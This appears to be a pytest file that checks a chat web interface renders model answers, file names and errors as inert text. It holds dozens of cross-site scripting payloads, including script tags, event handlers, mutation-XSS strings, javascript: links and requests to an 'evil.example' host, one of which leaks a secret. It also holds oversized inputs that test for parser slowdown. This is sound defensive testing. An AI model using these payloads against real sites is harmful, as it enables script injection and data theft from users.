"""What a model, a server or a file says never becomes markup, script or a request."""

from __future__ import annotations

from typing import Any

import pytest

pytestmark = pytest.mark.slow

HIT = "window.hit=1"
HTML = [
    f"<script>{HIT}</script>",
    f"<img src=x onerror={HIT}>",
    f"<svg onload={HIT}><script>{HIT}</script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img onerror={HIT}>">',
    f'<form><math><mtext></form><form><mglyph><style></math><img src onerror="{HIT}">',
    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>",
    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
    f"<a href='javascript:{HIT}'>x</a><base href=//evil.example/><meta http-equiv=refresh>",
    f"<details open ontoggle={HIT}>",
    "<style>@import '//evil.example'</style><link rel=stylesheet href=//evil.example>",
    f"</textarea></title><img src=x onerror={HIT}>",
    f"<!--><img src=x onerror={HIT}>-->",
    f"<![CDATA[><img src=x onerror={HIT}>]]>",
    f"<?xml <img src=x onerror={HIT}>?>",
    f"&lt;img src=x onerror={HIT}&gt;",
    f"<img/src=x\x00onerror={HIT}>",
]
LINKS = [
    f"[x](javascript:{HIT})",
    f"[x](JaVaScRiPt:{HIT})",
    f"[x](java&#115;cript:{HIT})",
    f"[x](&#x6A;avascript&colon;{HIT})",
    f"[x](<java\tscript:{HIT}>)",
    f"[x](\x01javascript:{HIT})",
    f"[x](data:text/html,<script>{HIT}</script>)",
    f"![x](data:image/svg+xml,<svg onload={HIT}>)",
    "![x](https://evil.example/?secret)",
    f"[x](vbscript:{HIT})",
    "[x](blob:https://evil.example/1)",
    f"[x][y]\n\n[y]: javascript:{HIT}",
    f"<javascript:{HIT}>",
    f'[x](https://example.org "\\"onmouseover={HIT} x=\\"")',
    f"[x](https://example.org\"onmouseover={HIT})",
    "[x](/v1/models) [y](//evil.example) [z](#log)",
]  # fmt: skip
BLOCKS = [
    f"```html\n<img src=x onerror={HIT}>\n</code></pre><script>{HIT}</script>\n```",
    f'```"><img src=x onerror={HIT}>\ntext\n```',
    f"```constructor\n{HIT}\n```\n```__proto__\n{HIT}\n```",
    f"| <img src=x onerror={HIT}> |\n|:--|\n| <svg onload={HIT}> |",
    f"# <img src=x onerror={HIT}>\n\n> <img src=x onerror={HIT}>\n\n- <img src=x onerror={HIT}>",
    f"$<img src=x onerror={HIT}>$ \\(<svg onload={HIT}>\\)\n\n\\[\n<img src=x onerror={HIT}>\n\\]",
    f"`<img src=x onerror={HIT}>`",
]
TAGS = "P UL OL LI BLOCKQUOTE TABLE THEAD TBODY TR TH TD STRONG EM S A H3 H4 H5 H6 DIV SPAN PRE"
TAGS += " CODE BUTTON BR HR"
MATHS = ["math", "semantics", "annotation", "mrow", "mi", "mn", "mo", "mtext", "msup", "msub"]
ATTRIBUTES = {"class", "tabindex", "role", "aria-label", "type", "href", "target", "rel", "title"}
ATTRIBUTES |= {"start", "display", "encoding", "stretchy"}
FOUND = """
return [...document.querySelectorAll('.text *')].map(e => [
    e.namespaceURI === document.documentElement.namespaceURI ? e.tagName
        : e.namespaceURI.endsWith('/MathML') ? e.tagName : 'foreign ' + e.tagName,
    [...e.attributes].map(a => a.name), e.getAttribute('href')])
"""
REQUESTS = "return performance.getEntriesByType('resource').map(e => e.name)"


def check(site: Any) -> None:
    for tag, attributes, href in site.js(FOUND):
        assert tag in [*TAGS.split(), *MATHS] and set(attributes) <= ATTRIBUTES
        assert href is None or href.startswith("https://e")
    assert site.js("return window.hit") is None
    assert all(name.startswith(site.server.url) for name in site.js(REQUESTS))


def test_an_answer(site: Any) -> None:
    attacks = HTML + LINKS + BLOCKS
    site.send("Attack!", *[f"\n\n{text}\n\n" for text in attacks], ("think", "".join(HTML)))
    check(site)
    shown = site.js("return document.querySelector('.text').textContent")
    assert all(text.replace("\0", "�") in shown for text in HTML if "&" not in text)
    assert len(site.all(".text a")) == 3  # the two to example.org, and the picture's address
    for link in site.all(".text a"):
        assert link.get_attribute("rel") == "noopener noreferrer"
    check(site)


@pytest.mark.parametrize("kind", [HTML, LINKS, BLOCKS], ids=["html", "links", "blocks"])
def test_every_beginning_of_it(site: Any, kind: list[str]) -> None:
    """An answer is shown while it grows, so each part of a text is shown."""
    script = """
        const into = document.getElementById('log');
        into.className = 'text';
        for (const text of texts)
          for (let n = 1; n <= text.length; n++) markdown(text.slice(0, n), into);
        done();
    """
    site.markdown(script, "\n\n".join(kind), *kind)
    check(site)


def test_titles_files_errors_and_names(site: Any) -> None:
    attack = f"<img src=x onerror={HIT}>"
    site.server.models = [site.server.model(attack), site.server.model("b")]
    site.open()
    site.js(
        "const t = new DataTransfer(); t.items.add(new File([arguments[0]], arguments[0]));"
        "document.dispatchEvent(new DragEvent('drop', { dataTransfer: t, cancelable: true }))",
        attack,
    )
    assert site.wait("#files li").text.startswith(attack)
    site.server.answers.append((400, attack))
    site.type(attack)
    site.wait_whole()
    assert site.texts(".note") == [f"Error: {attack}"]
    assert site.texts("#chats .open") == [attack]
    site.press("Delete")
    assert attack in site.wait("#confirm-text").text
    site.press("Cancel")
    assert site.js("return document.querySelectorAll('img, script:not([src])').length") == 0
    check(site)


def test_markup_is_refused_by_the_browser_too(site: Any) -> None:
    """No script of the page could make markup of a text, nor one of itself."""
    for script in (
        "document.body.innerHTML = '<b>'",
        "document.body.insertAdjacentHTML('beforeend', '<b>')",
        "new DOMParser().parseFromString('<b>', 'text/html')",
        "document.createElement('script').text = 'x'",
        "document.createElement('iframe').srcdoc = 'x'",
        "trustedTypes.createPolicy('x', {})",
    ):
        told = site.js(f"try {{ {script}; return '' }} catch (error) {{ return error.name }}")
        assert told == "TypeError", script
    with pytest.raises(Exception, match="TrustedScript"):
        site.js("document.createElement('button').setAttribute('onclick', 'window.hit = 1')")
    site.browser.get_log("browser")
    assert site.js("return window.hit") is None


LONG = [
    "[" * 20_000, "*a " * 20_000, "> " * 20_000, "`" * 40_001, "![" * 20_000, "<" * 40_000,
    "- " * 20_000, "**" * 20_000, "|a" * 5_000 + "\n" + "|-" * 5_000, "\\(" * 20_000,
    "_a*b" * 10_000, "$a" * 20_000, "```js\n" + "{" * 25_000, "```css\n" + "a{" * 14_000,
    "a@" * 20_000, "```python\n" + "f'{" * 9_000, "https://" * 5_000, "\\[\n" * 10_000,
    "$$\n" * 10_001, "```html\n" + "<a " * 9_000, "```markdown\n" + "*_" * 14_000,
    "```xml\n" + "<![CDATA[" * 3000, "$x$ " * 5000, "$$" + "{" * 40_000 + "$$",
    "$$" + "\\sqrt" * 10_000 + "$$", "\\(" + "x" * 40_000 + "\\)", "$\\text{" * 9000,
    "$$" + "\\begin{matrix}" * 3000 + "$$", "$\\foo{a}$" * 3000,
]  # fmt: skip


def test_no_text_makes_the_page_wait(site: Any) -> None:
    """An early form took seconds for ends of maths that were not there, or ran out of stack."""
    script = """
        const into = document.createElement('div'), began = performance.now();
        document.getElementById('log').append(into);
        markdown(texts[0], into);
        into.getBoundingClientRect();
        done(performance.now() - began);
        into.remove();
    """
    # Of three times the least: other programs make a busy machine slow for a moment.
    times = {text[:9]: min(site.markdown(script, text) for _ in range(3)) for text in LONG}
    assert max(times.values()) < 1000, times
